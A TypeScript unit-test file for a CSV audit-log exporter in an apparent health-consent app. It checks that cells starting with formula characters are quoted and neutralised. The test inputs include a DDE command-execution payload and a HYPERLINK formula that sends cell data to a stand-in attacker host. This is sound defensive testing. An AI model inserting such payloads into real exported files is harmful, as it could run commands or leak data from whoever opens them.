import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { Address, Hex } from 'viem';

import { type AuditRow, auditCsv } from './audit';

const PROVIDER = '0x70997970C51812dc3A010C7d01b50e0d17dc79C8' as Address;
const PATIENT = '0x3C44CdDdB6a900fa2b585dd299e03d12FA4293BC' as Address;

const row: AuditRow = {
  id: '0x01-0',
  timestamp: 1_700_000_000,
  group: 'consent',
  actor: PATIENT,
  counterpart: PROVIDER,
  action: 'Granted access',
  detail: 'read: medication',
  recordIds: [],
  categories: [],
  fhirAction: 'C',
  fhirSubtype: 'create',
  transactionHash: `0x${'ab'.repeat(32)}` as Hex,
};

/** The data line `auditCsv` writes when the provider is called `name`. */
function lineNaming(name: string): string {
  return auditCsv([row], (address) => (address === PROVIDER ? name : undefined)).split('\r\n')[1]!;
}

/** The data line with `cell` as written in the provider_name column. */
function lineWith(cell: string): string {
  return `2023-11-14T22:13:20.000Z,${PATIENT},,Granted access,${PROVIDER},${cell},,,read: medication,${row.transactionHash}`;
}

describe('auditCsv', () => {
  it('writes a header and one CRLF-terminated line per row', () => {
    const csv = auditCsv([row], () => undefined);
    assert.equal(
      csv,
      'time,actor,actor_name,action,provider,provider_name,records,categories,detail,transaction\r\n' +
        `2023-11-14T22:13:20.000Z,${PATIENT},,Granted access,${PROVIDER},,,,read: medication,${row.transactionHash}\r\n`,
    );
  });

  for (const [label, start] of [
    ['=', '='],
    ['+', '+'],
    ['-', '-'],
    ['@', '@'],
    ['a tab (0x09)', '\t'],
    ['a carriage return (0x0D)', '\r'],
  ] as const) {
    it(`neutralises a cell starting with ${label}: a single quote in front, the field quoted`, () => {
      const dde = `${start}cmd|' /C calc'!A0`;
      assert.equal(lineNaming(dde), lineWith(`"'${dde}"`));
      const link = `${start}HYPERLINK("https://evil.example/?"&A1,"Dr. Who")`;
      assert.equal(lineNaming(link), lineWith(`"'${link.replace(/"/g, '""')}"`));
    });
  }

  it('leaves other cells as they are, quoting only commas, quotes and line breaks', () => {
    assert.equal(lineNaming('Dr. Grey'), lineWith('Dr. Grey'));
    assert.equal(lineNaming('Grey, Meredith'), lineWith('"Grey, Meredith"'));
    assert.equal(lineNaming('Dr. "Mer" Grey'), lineWith('"Dr. ""Mer"" Grey"'));
    assert.equal(lineNaming('Dr. Grey\n=1+1'), lineWith('"Dr. Grey\n=1+1"'), 'not at the start: text');
  });
});
